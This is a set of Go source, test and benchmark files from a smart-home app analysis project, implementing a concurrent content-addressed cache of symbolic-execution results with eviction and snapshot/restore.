	return float64(s.Hits) / float64(s.Lookups)
}

// Cache is a goroutine-safe content-addressed extraction cache. The zero
// value is not usable; call New.
type Cache struct {
	mu        sync.Mutex
	entries   map[Key]*entry
	lookups   uint64
	hits      uint64
	misses    uint64
	evictions uint64
	limit     int // max completed entries kept; 0 = unbounded

	// extract is the extraction function; replaceable in tests.
	extract func(src, appName string) (*symexec.Result, error)
}

// New returns an empty unbounded cache backed by symexec.Extract.
func New() *Cache {
	return &Cache{
		entries: map[Key]*entry{},
		extract: symexec.Extract,
	}
}

// NewBounded returns an empty cache that holds at most limit extraction
// results, evicting arbitrary completed entries on overflow (the same
// discipline as pairverdict.NewBounded). A long-running daemon that sees
// one-off app sources — user-modified copies, fuzzed installs — would
// otherwise grow the cache without limit; under the bound a hot catalog
// stays resident and only the hit rate of the long tail dips. A limit
// <= 0 means unbounded.
func NewBounded(limit int) *Cache {
	return &Cache{entries: map[Key]*entry{}, limit: limit, extract: symexec.Extract}
}

// NewWithExtractor returns a cache backed by a custom extraction function
// (used by tests to count and delay extractions).
func NewWithExtractor(fn func(src, appName string) (*symexec.Result, error)) *Cache {
	return &Cache{entries: map[Key]*entry{}, extract: fn}
}

// SetLimit adjusts the entry bound (0 = unbounded). Overflow is trimmed
// on the next insert.
func (c *Cache) SetLimit(limit int) {
	c.mu.Lock()
	c.limit = limit
	c.mu.Unlock()
}

// Extract returns the extraction result for src, running symbolic
// execution at most once per distinct (src, appName) no matter how many
// goroutines ask concurrently. Errors are cached too: extraction is
// deterministic, so a source that fails to parse fails for every home.
func (c *Cache) Extract(src, appName string) (*symexec.Result, error) {
	k := KeyOf(src, appName)

	c.mu.Lock()
	c.lookups++
	if e, ok := c.entries[k]; ok {
		c.hits++
		c.mu.Unlock()
		<-e.done
		return e.res, e.err
	}
	e := &entry{done: make(chan struct{})}
	c.entries[k] = e
	c.misses++
	c.evictOverflowLocked()
	c.mu.Unlock()

	// Close done even if the extractor panics: an unclosed entry would
	// wedge every later Extract of this key forever. The panic is
	// converted to a cached error so waiters fail too instead of
	// blocking, then re-raised for this caller.
	func() {
		defer func() {
			if r := recover(); r != nil {
				e.err = fmt.Errorf("extractcache: extraction panic: %v", r)
				close(e.done)
				panic(r)
			}
			close(e.done)
		}()
		e.res, e.err = c.extract(src, appName)
	}()
	return e.res, e.err
}

// evictOverflowLocked drops arbitrary completed entries until the cache
// fits its limit. In-flight entries are never victims (waiters block on
// them; this also protects the just-inserted entry, whose done channel is
// still open). Callers hold c.mu. Map iteration order gives a cheap
// pseudo-random victim choice — the same trade pairverdict makes.
func (c *Cache) evictOverflowLocked() {
	if c.limit <= 0 {
		return
	}
	for k, e := range c.entries {
		if len(c.entries) <= c.limit {
			return
		}
		select {
		case <-e.done:
			delete(c.entries, k)
			c.evictions++
		default: // in flight
		}
	}
}

// Stats returns a snapshot of the cache counters.
func (c *Cache) Stats() Stats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return Stats{
		Lookups:   c.lookups,
		Hits:      c.hits,
		Misses:    c.misses,
		Evictions: c.evictions,
		Entries:   len(c.entries),
	}
}

// Len returns the number of cached entries.
func (c *Cache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}

// Purge drops every cached entry (counters are kept). In-flight
// extractions complete and are returned to their waiters but are no
// longer cached for later callers.
func (c *Cache) Purge() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.entries = map[Key]*entry{}
}
