// Package extractcache is a content-addressed cache of rule-extraction
// results shared across homes. A SmartApp popular on the app store is
// installed into thousands of homes; its source is identical everywhere,
// so its symbolic execution is too. The cache keys extraction output by
// the SHA-256 of the source (plus the name override) so the fleet runs
// symexec once per distinct app, not once per install.
//
// Concurrent requests for the same uncached source are deduplicated with
// a singleflight discipline: the first caller executes, later callers
// block on the in-flight entry and share its result. This matters at
// fleet cold-start, when many homes install the same hot app at once.
//
// A cached *symexec.Result is immutable after extraction (see the Result
// documentation in internal/symexec) and is therefore handed out to every
// caller without copying; callers must treat it as read-only.
package extractcache

import (
	"crypto/sha256"
	"fmt"
	"sync"

	"homeguard/internal/symexec"
)

// Key is the content address of one extraction: SHA-256 over the app
// source and the name override.
type Key [sha256.Size]byte

// KeyOf computes the content address for a source/name pair.
func KeyOf(src, appName string) Key {
	h := sha256.New()
	h.Write([]byte(src))
	h.Write([]byte{0}) // domain-separate source from name override
	h.Write([]byte(appName))
	var k Key
	h.Sum(k[:0])
	return k
}

// entry is one cache slot. done is closed by the extracting goroutine
// once res/err are set; waiters block on it (singleflight).
type entry struct {
	done chan struct{}
	res  *symexec.Result
	err  error
}

// Stats are cumulative cache counters. HitRate is derived.
type Stats struct {
	// Lookups counts Extract calls.
	Lookups uint64
	// Hits counts lookups served from a completed or in-flight entry
	// (an in-flight join still means the caller did no symexec work).
	Hits uint64
	// Misses counts lookups that ran symbolic execution themselves.
	Misses uint64
	// Entries is the current number of cached results.
	Entries int
}

// HitRate returns Hits/Lookups, or 0 before any lookup.
func (s Stats) HitRate() float64 {
	if s.Lookups == 0 {
		return 0
	}
	return float64(s.Hits) / float64(s.Lookups)
}

// Cache is a goroutine-safe content-addressed extraction cache. The zero
// value is not usable; call New.
type Cache struct {
	mu      sync.Mutex
	entries map[Key]*entry
	lookups uint64
	hits    uint64
	misses  uint64

	// extract is the extraction function; replaceable in tests.
	extract func(src, appName string) (*symexec.Result, error)
}

// New returns an empty cache backed by symexec.Extract.
func New() *Cache {
	return &Cache{
		entries: map[Key]*entry{},
		extract: symexec.Extract,
	}
}

// NewWithExtractor returns a cache backed by a custom extraction function
// (used by tests to count and delay extractions).
func NewWithExtractor(fn func(src, appName string) (*symexec.Result, error)) *Cache {
	return &Cache{entries: map[Key]*entry{}, extract: fn}
}

// Extract returns the extraction result for src, running symbolic
// execution at most once per distinct (src, appName) no matter how many
// goroutines ask concurrently. Errors are cached too: extraction is
// deterministic, so a source that fails to parse fails for every home.
func (c *Cache) Extract(src, appName string) (*symexec.Result, error) {
	k := KeyOf(src, appName)

	c.mu.Lock()
	c.lookups++
	if e, ok := c.entries[k]; ok {
		c.hits++
		c.mu.Unlock()
		<-e.done
		return e.res, e.err
	}
	e := &entry{done: make(chan struct{})}
	c.entries[k] = e
	c.misses++
	c.mu.Unlock()

	// Close done even if the extractor panics: an unclosed entry would
	// wedge every later Extract of this key forever. The panic is
	// converted to a cached error so waiters fail too instead of
	// blocking, then re-raised for this caller.
	func() {
		defer func() {
			if r := recover(); r != nil {
				e.err = fmt.Errorf("extractcache: extraction panic: %v", r)
				close(e.done)
				panic(r)
			}
			close(e.done)
		}()
		e.res, e.err = c.extract(src, appName)
	}()
	return e.res, e.err
}

// Stats returns a snapshot of the cache counters.
func (c *Cache) Stats() Stats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return Stats{
		Lookups: c.lookups,
		Hits:    c.hits,
		Misses:  c.misses,
		Entries: len(c.entries),
	}
}

// Len returns the number of cached entries.
func (c *Cache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}

// Purge drops every cached entry (counters are kept). In-flight
// extractions complete and are returned to their waiters but are no
// longer cached for later callers.
func (c *Cache) Purge() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.entries = map[Key]*entry{}
}
