package extractcache

import (
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"homeguard/internal/corpus"
	"homeguard/internal/symexec"
)

func TestHitMiss(t *testing.T) {
	app, ok := corpus.Get("ComfortTV")
	if !ok {
		t.Fatal("corpus app ComfortTV missing")
	}
	other, _ := corpus.Get("ColdDefender")

	c := New()
	r1, err := c.Extract(app.Source, "")
	if err != nil {
		t.Fatalf("first extract: %v", err)
	}
	r2, err := c.Extract(app.Source, "")
	if err != nil {
		t.Fatalf("second extract: %v", err)
	}
	if r1 != r2 {
		t.Error("second extract of identical source returned a different *Result; want the cached one")
	}
	if _, err := c.Extract(other.Source, ""); err != nil {
		t.Fatalf("extract distinct app: %v", err)
	}
	s := c.Stats()
	if s.Lookups != 3 || s.Hits != 1 || s.Misses != 2 || s.Entries != 2 {
		t.Errorf("stats = %+v, want 3 lookups / 1 hit / 2 misses / 2 entries", s)
	}
	if got, want := s.HitRate(), 1.0/3.0; got != want {
		t.Errorf("HitRate() = %v, want %v", got, want)
	}
}

func TestNameOverrideChangesKey(t *testing.T) {
	if KeyOf("src", "") == KeyOf("src", "x") {
		t.Error("name override should change the content address")
	}
	// Domain separation: the (src, name) split point must matter.
	if KeyOf("ab", "c") == KeyOf("a", "bc") {
		t.Error("source and name are not domain-separated in the key")
	}
}

func TestErrorsAreCached(t *testing.T) {
	c := New()
	_, err1 := c.Extract("not groovy {{{", "")
	if err1 == nil {
		t.Fatal("expected a parse error")
	}
	_, err2 := c.Extract("not groovy {{{", "")
	if err2 == nil || err2.Error() != err1.Error() {
		t.Fatalf("second extract returned %v, want the cached error %v", err2, err1)
	}
	s := c.Stats()
	if s.Misses != 1 || s.Hits != 1 {
		t.Errorf("stats = %+v, want the failing source extracted once and the error replayed", s)
	}
}

// TestSingleflightDedup proves that N goroutines racing on one uncached
// key run extraction exactly once: the extractor blocks until every
// goroutine has issued its lookup, so all N are provably concurrent.
func TestSingleflightDedup(t *testing.T) {
	const n = 32
	var calls atomic.Int64
	arrived := make(chan struct{}, n)
	release := make(chan struct{})
	want := &symexec.Result{}
	c := NewWithExtractor(func(src, appName string) (*symexec.Result, error) {
		calls.Add(1)
		<-release // hold the flight open until all goroutines have joined
		return want, nil
	})

	var wg sync.WaitGroup
	results := make([]*symexec.Result, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			arrived <- struct{}{}
			r, err := c.Extract("hot-app-source", "")
			if err != nil {
				t.Errorf("goroutine %d: %v", i, err)
			}
			results[i] = r
		}(i)
	}
	// Wait until every goroutine is at (or past) its Extract call, then
	// let the single in-flight extraction finish.
	for i := 0; i < n; i++ {
		<-arrived
	}
	close(release)
	wg.Wait()

	if got := calls.Load(); got != 1 {
		t.Errorf("extractor ran %d times for one key under contention, want exactly 1", got)
	}
	for i, r := range results {
		if r != want {
			t.Fatalf("goroutine %d got result %p, want the shared %p", i, r, want)
		}
	}
	s := c.Stats()
	if s.Lookups != n || s.Misses != 1 || s.Hits != n-1 {
		t.Errorf("stats = %+v, want %d lookups / 1 miss / %d hits", s, n, n-1)
	}
}

// TestExtractorPanicDoesNotWedge checks panic safety: a panicking
// extraction must re-raise for its own caller but leave a cached error —
// never an unclosed entry that would block later lookups forever.
func TestExtractorPanicDoesNotWedge(t *testing.T) {
	c := NewWithExtractor(func(src, appName string) (*symexec.Result, error) {
		panic("boom")
	})
	func() {
		defer func() {
			if recover() == nil {
				t.Error("first Extract did not re-raise the extractor panic")
			}
		}()
		c.Extract("src", "")
	}()
	done := make(chan error, 1)
	go func() {
		_, err := c.Extract("src", "")
		done <- err
	}()
	select {
	case err := <-done:
		if err == nil {
			t.Error("post-panic Extract returned nil error, want the cached panic error")
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Extract after extractor panic blocked: singleflight entry was never closed")
	}
}

func TestPurge(t *testing.T) {
	app, _ := corpus.Get("ComfortTV")
	c := New()
	if _, err := c.Extract(app.Source, ""); err != nil {
		t.Fatal(err)
	}
	c.Purge()
	if c.Len() != 0 {
		t.Errorf("Len() = %d after Purge, want 0", c.Len())
	}
	if _, err := c.Extract(app.Source, ""); err != nil {
		t.Fatal(err)
	}
	if s := c.Stats(); s.Misses != 2 {
		t.Errorf("misses = %d after purge+re-extract, want 2", s.Misses)
	}
}

// TestBoundedEviction pins the entry cap: inserting past the limit evicts
// completed entries, counts them, and evicted keys re-extract on return.
func TestBoundedEviction(t *testing.T) {
	calls := 0
	c := NewWithExtractor(func(src, appName string) (*symexec.Result, error) {
		calls++
		return &symexec.Result{}, nil
	})
	c.SetLimit(2)
	srcs := []string{"a", "b", "c", "d"}
	for _, s := range srcs {
		if _, err := c.Extract(s, ""); err != nil {
			t.Fatal(err)
		}
	}
	st := c.Stats()
	if st.Entries > 2 {
		t.Fatalf("entries = %d, want <= 2", st.Entries)
	}
	if st.Evictions != 2 {
		t.Fatalf("evictions = %d, want 2", st.Evictions)
	}
	if calls != 4 {
		t.Fatalf("extractions = %d, want 4", calls)
	}
	// Evicted keys re-extract; re-inserting them may evict keys that the
	// same sweep then misses again, so anywhere between the 2 originally
	// evicted and all 4 can re-run — but never more.
	before := calls
	for _, s := range srcs {
		if _, err := c.Extract(s, ""); err != nil {
			t.Fatal(err)
		}
	}
	if re := calls - before; re < 2 || re > 4 {
		t.Fatalf("re-extractions = %d, want between 2 and 4", re)
	}
}
