// Persistent warm-start for the extraction cache: Snapshot serializes
// every completed entry (results and cached errors) through the shared
// snapcodec framing, Restore merges a snapshot back in. A restarted
// daemon that restores its snapshot serves the first install storm of a
// hot catalog at warm-cache latency instead of re-running symbolic
// execution for the whole world.

package extractcache

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"

	"homeguard/internal/rule"
	"homeguard/internal/snapcodec"
	"homeguard/internal/symexec"
)

// Snapshot format identity. Bump the version on any payload change: a
// restored snapshot must either parse exactly or be rejected typed.
const (
	snapshotMagic   = "HGXCSNP\x00"
	snapshotVersion = 1
)

// SnapshotMagic identifies an extraction-cache section. Exported so the
// daemon can sniff a legacy cache-only snapshot file (which starts with
// this section) apart from the checkpoint format that embeds it.
const SnapshotMagic = snapshotMagic

// Re-exported so callers can match restore failures without importing the
// codec package.
var (
	ErrSnapshotVersion = snapcodec.ErrVersion
	ErrSnapshotCorrupt = snapcodec.ErrCorrupt
)

// inputDeclJSON mirrors symexec.InputDecl with the Default term in the
// tagged wire format (a Term behind an interface does not round-trip
// through plain encoding/json).
type inputDeclJSON struct {
	Name       string          `json:"name"`
	Type       string          `json:"type,omitempty"`
	Capability string          `json:"capability,omitempty"`
	Multiple   bool            `json:"multiple,omitempty"`
	Required   bool            `json:"required,omitempty"`
	Title      string          `json:"title,omitempty"`
	Options    []string        `json:"options,omitempty"`
	Default    json.RawMessage `json:"default,omitempty"`
}

// resultJSON is the wire form of one *symexec.Result (an AppInfo, its
// rule set and the extraction diagnostics). It is embedded in entryJSON,
// so encoding/json promotes its fields into the entry payload — the wire
// format is byte-identical to when these fields lived on entryJSON
// directly, which is why the split needs no snapshot version bump.
type resultJSON struct {
	HasResult   bool            `json:"hasResult,omitempty"`
	Name        string          `json:"name,omitempty"`
	Namespace   string          `json:"namespace,omitempty"`
	Description string          `json:"description,omitempty"`
	Category    string          `json:"category,omitempty"`
	Inputs      []inputDeclJSON `json:"inputs,omitempty"`
	Rules       json.RawMessage `json:"rules,omitempty"`
	Warnings    []string        `json:"warnings,omitempty"`
	Paths       int             `json:"paths,omitempty"`
}

// entryJSON is one snapshot record's payload (the 32-byte key precedes it
// in the raw record).
type entryJSON struct {
	Err string `json:"err,omitempty"`
	resultJSON
}

func encodeResult(res *symexec.Result) (resultJSON, error) {
	e := resultJSON{HasResult: true}
	e.Name = res.App.Name
	e.Namespace = res.App.Namespace
	e.Description = res.App.Description
	e.Category = res.App.Category
	e.Warnings = res.Warnings
	e.Paths = res.Paths
	for i := range res.App.Inputs {
		in := &res.App.Inputs[i]
		dj := inputDeclJSON{
			Name: in.Name, Type: in.Type, Capability: in.Capability,
			Multiple: in.Multiple, Required: in.Required, Title: in.Title,
			Options: in.Options,
		}
		if in.Default != nil {
			b, err := rule.MarshalTerm(in.Default)
			if err != nil {
				return resultJSON{}, err
			}
			dj.Default = b
		}
		e.Inputs = append(e.Inputs, dj)
	}
	if res.Rules != nil {
		b, err := rule.MarshalRuleSet(res.Rules)
		if err != nil {
			return resultJSON{}, err
		}
		e.Rules = b
	}
	return e, nil
}

func decodeResult(e *resultJSON) (*symexec.Result, error) {
	if !e.HasResult {
		return nil, nil
	}
	res := &symexec.Result{
		App: symexec.AppInfo{
			Name: e.Name, Namespace: e.Namespace,
			Description: e.Description, Category: e.Category,
		},
		Warnings: e.Warnings,
		Paths:    e.Paths,
	}
	for _, dj := range e.Inputs {
		in := symexec.InputDecl{
			Name: dj.Name, Type: dj.Type, Capability: dj.Capability,
			Multiple: dj.Multiple, Required: dj.Required, Title: dj.Title,
			Options: dj.Options,
		}
		if len(dj.Default) > 0 {
			t, err := rule.UnmarshalTerm(dj.Default)
			if err != nil {
				return nil, fmt.Errorf("%w: input default: %v", ErrSnapshotCorrupt, err)
			}
			in.Default = t
		}
		res.App.Inputs = append(res.App.Inputs, in)
	}
	if len(e.Rules) > 0 {
		rs, err := rule.UnmarshalRuleSet(e.Rules)
		if err != nil {
			return nil, fmt.Errorf("%w: rule set: %v", ErrSnapshotCorrupt, err)
		}
		res.Rules = rs
	}
	return res, nil
}

// MarshalResult serializes one extraction result in the snapshot wire
// form, for other sections (fleet homes, auditor store, WAL op records)
// that persist results outside the extraction cache. res must be non-nil.
func MarshalResult(res *symexec.Result) ([]byte, error) {
	e, err := encodeResult(res)
	if err != nil {
		return nil, err
	}
	return json.Marshal(e)
}

// UnmarshalResult reverses MarshalResult.
func UnmarshalResult(b []byte) (*symexec.Result, error) {
	var e resultJSON
	if err := json.Unmarshal(b, &e); err != nil {
		return nil, fmt.Errorf("%w: result payload: %v", ErrSnapshotCorrupt, err)
	}
	res, err := decodeResult(&e)
	if err != nil {
		return nil, err
	}
	if res == nil {
		return nil, fmt.Errorf("%w: result payload without a result", ErrSnapshotCorrupt)
	}
	return res, nil
}

func encodeEntry(k Key, res *symexec.Result, cacheErr error) ([]byte, error) {
	e := entryJSON{}
	if cacheErr != nil {
		e.Err = cacheErr.Error()
	}
	if res != nil {
		rj, err := encodeResult(res)
		if err != nil {
			return nil, err
		}
		e.resultJSON = rj
	}
	payload, err := json.Marshal(e)
	if err != nil {
		return nil, err
	}
	rec := make([]byte, 0, len(k)+len(payload))
	rec = append(rec, k[:]...)
	rec = append(rec, payload...)
	return rec, nil
}

func decodeEntry(rec []byte) (Key, *symexec.Result, error, error) {
	var k Key
	if len(rec) < len(k) {
		return k, nil, nil, fmt.Errorf("%w: record shorter than a key", ErrSnapshotCorrupt)
	}
	copy(k[:], rec)
	var e entryJSON
	if err := json.Unmarshal(rec[len(k):], &e); err != nil {
		return k, nil, nil, fmt.Errorf("%w: entry payload: %v", ErrSnapshotCorrupt, err)
	}
	var cacheErr error
	if e.Err != "" {
		cacheErr = errors.New(e.Err)
	}
	res, err := decodeResult(&e.resultJSON)
	if err != nil {
		return k, nil, nil, err
	}
	return k, res, cacheErr, nil
}

// Snapshot writes every completed cache entry (results and cached
// errors) to w in the versioned, checksummed snapshot format, returning
// the number of entries written. In-flight extractions are skipped — a
// snapshot never blocks on a running symexec — and the entry set is
// captured under the lock, then serialized outside it (cached results are
// immutable), so concurrent Extract traffic proceeds during the write.
func (c *Cache) Snapshot(w io.Writer) (int, error) {
	type kv struct {
		k Key
		e *entry
	}
	c.mu.Lock()
	done := make([]kv, 0, len(c.entries))
	for k, e := range c.entries {
		select {
		case <-e.done:
			done = append(done, kv{k, e})
		default: // in flight
		}
	}
	c.mu.Unlock()

	sw, err := snapcodec.NewWriter(w, snapshotMagic, snapshotVersion)
	if err != nil {
		return 0, fmt.Errorf("extractcache: snapshot: %w", err)
	}
	for _, it := range done {
		rec, err := encodeEntry(it.k, it.e.res, it.e.err)
		if err != nil {
			return 0, fmt.Errorf("extractcache: snapshot entry: %w", err)
		}
		if err := sw.Record(rec); err != nil {
			return 0, fmt.Errorf("extractcache: snapshot: %w", err)
		}
	}
	if err := sw.Close(); err != nil {
		return 0, fmt.Errorf("extractcache: snapshot: %w", err)
	}
	return len(done), nil
}

// Restore merges a snapshot produced by Snapshot into the cache,
// returning the number of entries added. Keys already present (completed
// or in flight) keep their live value — a restore never clobbers fresher
// work. A wrong format version fails with ErrSnapshotVersion and damage
// with ErrSnapshotCorrupt; both leave already-merged entries in place
// (they are individually valid), so a caller may still serve what loaded.
// Restored entries count toward the entry bound; overflow evicts as
// usual on the next insert.
func (c *Cache) Restore(r io.Reader) (int, error) {
	sr, err := snapcodec.NewReader(r, snapshotMagic, snapshotVersion)
	if err != nil {
		return 0, fmt.Errorf("extractcache: restore: %w", err)
	}
	added := 0
	for {
		rec, err := sr.Next()
		if err == io.EOF {
			return added, nil
		}
		if err != nil {
			return added, fmt.Errorf("extractcache: restore: %w", err)
		}
		k, res, cacheErr, err := decodeEntry(rec)
		if err != nil {
			return added, fmt.Errorf("extractcache: restore: %w", err)
		}
		e := &entry{done: closedChan(), res: res, err: cacheErr}
		c.mu.Lock()
		if _, exists := c.entries[k]; !exists {
			c.entries[k] = e
			added++
			c.evictOverflowLocked()
		}
		c.mu.Unlock()
	}
}

// closedChan returns a pre-closed done channel for restored entries
// (waiters must never block on them).
var closedDone = func() chan struct{} {
	ch := make(chan struct{})
	close(ch)
	return ch
}()

func closedChan() chan struct{} { return closedDone }
