package extractcache

import (
	"bytes"
	"errors"
	"sync"
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

func ruleBytes(t *testing.T, rs *rule.RuleSet) string {
	t.Helper()
	if rs == nil {
		return ""
	}
	b, err := rule.MarshalRuleSet(rs)
	if err != nil {
		t.Fatalf("marshal rule set: %v", err)
	}
	return string(b)
}

// TestSnapshotRoundTrip pins warm-start behavior: a cache restored from a
// snapshot serves the same sources as hits — identical app metadata,
// byte-identical rule files, preserved warnings/paths, and cached errors
// still failing — without ever invoking the extractor.
func TestSnapshotRoundTrip(t *testing.T) {
	apps := corpus.StoreAudit()[:5]
	src := func(i int) string { return apps[i].Source }

	warm := New()
	want := make([]*symexec.Result, len(apps))
	for i := range apps {
		r, err := warm.Extract(src(i), "")
		if err != nil {
			t.Fatalf("extract %d: %v", i, err)
		}
		want[i] = r
	}
	if _, err := warm.Extract("def broken( {", ""); err == nil {
		t.Fatal("broken source must fail")
	}

	var buf bytes.Buffer
	n, err := warm.Snapshot(&buf)
	if err != nil {
		t.Fatalf("snapshot: %v", err)
	}
	if n != len(apps)+1 {
		t.Fatalf("snapshot wrote %d entries, want %d", n, len(apps)+1)
	}

	cold := NewWithExtractor(func(src, name string) (*symexec.Result, error) {
		t.Errorf("restored cache ran the extractor for %q", name)
		return nil, errors.New("unexpected extraction")
	})
	added, err := cold.Restore(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("restore: %v", err)
	}
	if added != n {
		t.Fatalf("restore added %d entries, want %d", added, n)
	}

	for i := range apps {
		got, err := cold.Extract(src(i), "")
		if err != nil {
			t.Fatalf("warm extract %d: %v", i, err)
		}
		if got.App.Name != want[i].App.Name ||
			got.App.Description != want[i].App.Description ||
			len(got.App.Inputs) != len(want[i].App.Inputs) ||
			got.Paths != want[i].Paths ||
			len(got.Warnings) != len(want[i].Warnings) {
			t.Errorf("app %d metadata diverged after restore", i)
		}
		if ruleBytes(t, got.Rules) != ruleBytes(t, want[i].Rules) {
			t.Errorf("app %d rule file diverged after restore", i)
		}
		for j := range got.App.Inputs {
			g, w := got.App.Inputs[j], want[i].App.Inputs[j]
			gd, wd := "", ""
			if g.Default != nil {
				gd = g.Default.String()
			}
			if w.Default != nil {
				wd = w.Default.String()
			}
			if g.Name != w.Name || g.Capability != w.Capability || gd != wd {
				t.Errorf("app %d input %d diverged: %+v vs %+v", i, j, g, w)
			}
		}
	}
	if _, err := cold.Extract("def broken( {", ""); err == nil {
		t.Error("restored error entry did not fail")
	}
	st := cold.Stats()
	if st.Misses != 0 || st.Hits != uint64(len(apps)+1) {
		t.Errorf("warm-boot stats: hits=%d misses=%d, want all hits", st.Hits, st.Misses)
	}
	if st.HitRate() < 0.99 {
		t.Errorf("warm-boot hit rate = %.3f, want >= 0.99", st.HitRate())
	}
}

// TestSnapshotRejectsDamage: wrong version and corrupt payloads fail with
// the typed sentinels and never poison the cache.
func TestSnapshotRejectsDamage(t *testing.T) {
	warm := New()
	if _, err := warm.Extract(corpus.StoreAudit()[0].Source, ""); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := warm.Snapshot(&buf); err != nil {
		t.Fatal(err)
	}
	snap := buf.Bytes()

	// Version bump in the header (bytes 8..11 are the big-endian version).
	bad := append([]byte(nil), snap...)
	bad[11]++
	if _, err := New().Restore(bytes.NewReader(bad)); !errors.Is(err, ErrSnapshotVersion) {
		t.Errorf("version mismatch: err = %v, want ErrSnapshotVersion", err)
	}

	// Flipped payload byte: checksum must catch it.
	bad = append([]byte(nil), snap...)
	bad[len(bad)/2] ^= 0x40
	if _, err := New().Restore(bytes.NewReader(bad)); !errors.Is(err, ErrSnapshotCorrupt) {
		t.Errorf("payload damage: err = %v, want ErrSnapshotCorrupt", err)
	}

	// Truncation.
	if _, err := New().Restore(bytes.NewReader(snap[:len(snap)-7])); !errors.Is(err, ErrSnapshotCorrupt) {
		t.Errorf("truncation: err = %v, want ErrSnapshotCorrupt", err)
	}

	// Wrong magic entirely.
	if _, err := New().Restore(bytes.NewReader([]byte("NOTASNAPSHOTATALL..."))); !errors.Is(err, ErrSnapshotCorrupt) {
		t.Errorf("bad magic: err = %v, want ErrSnapshotCorrupt", err)
	}
}

// TestSnapshotConcurrent races Snapshot/Restore against live Extract
// traffic (meaningful under -race): snapshots must neither block nor
// corrupt the cache.
func TestSnapshotConcurrent(t *testing.T) {
	apps := corpus.StoreAudit()[:8]
	c := New()
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 20; i++ {
				if _, err := c.Extract(apps[(g*5+i)%len(apps)].Source, ""); err != nil {
					t.Errorf("extract: %v", err)
				}
			}
		}(g)
	}
	for g := 0; g < 2; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 10; i++ {
				var buf bytes.Buffer
				if _, err := c.Snapshot(&buf); err != nil {
					t.Errorf("snapshot: %v", err)
					return
				}
				if _, err := c.Restore(bytes.NewReader(buf.Bytes())); err != nil {
					t.Errorf("restore: %v", err)
					return
				}
			}
		}()
	}
	wg.Wait()
	if c.Len() != len(apps) {
		t.Errorf("cache ended with %d entries, want %d", c.Len(), len(apps))
	}
	// A final round trip is intact.
	var buf bytes.Buffer
	n, err := c.Snapshot(&buf)
	if err != nil || n != len(apps) {
		t.Fatalf("final snapshot: n=%d err=%v", n, err)
	}
	fresh := New()
	if added, err := fresh.Restore(&buf); err != nil || added != n {
		t.Fatalf("final restore: added=%d err=%v", added, err)
	}
}
