package fleet

import (
	"fmt"
	"sync/atomic"
	"testing"

	"homeguard/internal/corpus"
)

// BenchmarkFleetInstall measures fleet-scale install throughput: each
// iteration is one new home installing the five demo apps (Figs. 3–5),
// with iterations spread across GOMAXPROCS goroutines the way daemon
// requests would be. The shared extraction cache means the five apps are
// symbolically executed once for the whole run no matter how many homes
// install them; the reported hit-ratio and extractions metrics prove it.
//
// Run with e.g.:
//
//	go test ./internal/fleet -bench FleetInstall -benchtime 1000x
//
// for the 1k-home configuration.
func BenchmarkFleetInstall(b *testing.B) {
	demo := corpus.ByCategory(corpus.Demo)
	if len(demo) == 0 {
		b.Fatal("empty demo corpus")
	}
	f := New(Options{Shards: 64})
	var homeSeq atomic.Int64
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			id := fmt.Sprintf("home-%06d", homeSeq.Add(1))
			for _, app := range demo {
				if _, err := f.Install(id, app.Source, nil); err != nil {
					b.Fatalf("%s: install %s: %v", id, app.Name, err)
				}
			}
		}
	})
	b.StopTimer()

	cs := f.Cache().Stats()
	if int(cs.Misses) != len(demo) {
		b.Fatalf("cache misses = %d, want one extraction per distinct app (%d): the cache benefit is gone",
			cs.Misses, len(demo))
	}
	m := f.Metrics()
	b.ReportMetric(cs.HitRate(), "hit-ratio")
	b.ReportMetric(float64(cs.Misses), "extractions")
	b.ReportMetric(float64(m.InstallP99.Microseconds()), "p99-µs")
}

// BenchmarkFleetInstallNoCacheSharing is the contrast case: every home
// uses a private cache, so extraction re-runs per home — the single-home
// baseline the fleet design removes. Compare ns/op against
// BenchmarkFleetInstall for the cache benefit.
func BenchmarkFleetInstallNoCacheSharing(b *testing.B) {
	demo := corpus.ByCategory(corpus.Demo)
	var homeSeq atomic.Int64
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			// A one-home fleet with its own cache: no cross-home reuse.
			f := New(Options{Shards: 1})
			id := fmt.Sprintf("home-%06d", homeSeq.Add(1))
			for _, app := range demo {
				if _, err := f.Install(id, app.Source, nil); err != nil {
					b.Fatalf("%s: install %s: %v", id, app.Name, err)
				}
			}
		}
	})
}
