package fleet

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/obs"
	"homeguard/internal/wal"
)

// firstErr collects the first install error from RunParallel workers:
// testing.B's FailNow contract requires the benchmark goroutine, so a
// worker records the error and the benchmark b.Fatals after the barrier.
type firstErr struct {
	mu  sync.Mutex
	err error
}

func (f *firstErr) set(err error) {
	f.mu.Lock()
	if f.err == nil {
		f.err = err
	}
	f.mu.Unlock()
}

// BenchmarkFleetInstall measures fleet-scale install throughput: each
// iteration is one new home installing the five demo apps (Figs. 3–5),
// with iterations spread across GOMAXPROCS goroutines the way daemon
// requests would be. The shared extraction cache means the five apps are
// symbolically executed once for the whole run no matter how many homes
// install them; the reported hit-ratio and extractions metrics prove it.
//
// Run with e.g.:
//
//	go test ./internal/fleet -bench FleetInstall -benchtime 1000x
//
// for the 1k-home configuration.
func BenchmarkFleetInstall(b *testing.B) {
	demo := corpus.ByCategory(corpus.Demo)
	if len(demo) == 0 {
